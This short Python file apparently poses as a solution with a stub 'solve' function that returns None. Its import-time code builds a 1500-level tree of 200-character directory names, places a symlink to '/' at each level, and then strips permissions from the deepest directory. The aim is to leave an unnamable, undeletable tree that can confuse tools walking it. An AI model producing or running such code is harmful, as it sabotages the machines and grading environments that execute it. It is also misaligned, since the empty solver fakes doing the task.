# Makes a tree too deep to name, and takes its own rights to it away.
import os

for _ in range(1500):
    os.mkdir("a" * 200)
    os.chdir("a" * 200)
    os.symlink("/", "link")
os.chmod(".", 0)


def solve(n):
    return None
